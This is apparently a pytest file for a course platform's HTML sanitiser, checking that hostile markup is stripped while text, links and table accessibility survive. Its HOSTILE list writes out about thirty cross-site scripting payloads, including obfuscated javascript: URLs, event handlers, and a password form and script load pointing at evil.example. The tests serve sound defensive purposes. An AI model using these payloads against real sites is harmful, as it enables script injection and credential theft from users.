"""Nothing that could run in a learner's browser gets through, and the words stay."""

import re

import pytest

from csr_xblock.content.units.sanitising import has_words, html_to_keep, sanitise_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    "<a href='https://example.org' style='position:fixed'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<base href='https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{display:none}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<p id=csr-main class=csr-button data-csr-module=save>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
]
ALLOWED_TAG = re.compile(
    r"</?(p|br|ul|ol|li|b|strong|i|em|a|h3|h4|blockquote|table|caption|thead|tbody|tr|th|td)"
    r'( (href="(https?|mailto):[^"]*"|rel="noopener"|scope="[a-z]*"|(col|row)span="\d*"))*>'
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_leaves_only_allowed_tags(html: str) -> None:
    """What remains after taking out the allowed tags holds no tag at all, so that nothing can run."""
    rest = ALLOWED_TAG.sub("", sanitise_html(f"<p>before {html} after</p>"))

    assert "<" not in rest


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing(html: str) -> None:
    """Texts are cleaned when they are written and again when they are shown."""
    once = sanitise_html(html)

    assert once == sanitise_html(once)


def test_words_around_removed_tags_stay() -> None:
    """Pasted text must not lose sentences because of a font tag."""
    assert sanitise_html("<p>One <font color='red'>two</font> three</p>") == "<p>One two three</p>"


def test_links_keep_their_address_and_get_noopener() -> None:
    """A page that is opened cannot reach back into the course."""
    expected = '<a href="https://example.org/a?b=c" rel="noopener">x</a>'
    assert expected == sanitise_html('<a href="https://example.org/a?b=c">x</a>')


def test_tables_keep_what_screen_readers_need() -> None:
    """A table without scope and caption cannot be understood by ear."""
    table = '<table><caption>C</caption><tbody><tr><th scope="row">R</th><td colspan="2">1</td></tr></tbody></table>'

    assert table == sanitise_html(table)


@pytest.mark.parametrize("tag", ["<b>", "<ul><li>", "<b>x</i></a>", "<", "<img src=x onerror=alert(1)>"])
def test_html_with_too_many_tags_becomes_words(tag: str) -> None:
    """Some take time by the square of their number; what is shown instead is as harmless as ever."""
    html = sanitise_html(tag * 200_000 + "Bread & butter")

    assert html.endswith("Bread &amp; butter")
    assert "<" not in html


@pytest.mark.parametrize(
    "html", ["", " ", "<p></p>", "<p>&nbsp;</p>", "<br><br>", "<ul><li></li></ul>", "<p>\u200b\u00ad</p>", "<b> </b>"]
)
def test_html_without_anything_to_read_has_no_words(html: str) -> None:
    """Editors leave lines and marks behind when the words are deleted."""
    assert not has_words(html)


@pytest.mark.parametrize("html", ["a", "<p>–</p>", "<td>7</td>", "&lt;", "<p>🥖</p>"])
def test_whatever_can_be_read_is_words(html: str) -> None:
    """A dash in a table is said on purpose."""
    assert has_words(html)


def test_what_is_kept_is_what_was_typed() -> None:
    """A page adds to links what protects its reader; a limit must not count it."""
    typed = '<p><a href="https://example.org">Bread &amp; water</a></p>'

    assert typed == html_to_keep(typed) == html_to_keep(sanitise_html(typed))
    assert 'rel="noopener"' in sanitise_html(typed)


@pytest.mark.parametrize("attack", HOSTILE)
def test_what_is_kept_is_no_less_clean(attack: str) -> None:
    """Only `rel` is missing."""
    assert sanitise_html(attack) == sanitise_html(html_to_keep(attack))
    assert html_to_keep(attack) == sanitise_html(attack).replace(' rel="noopener"', "")
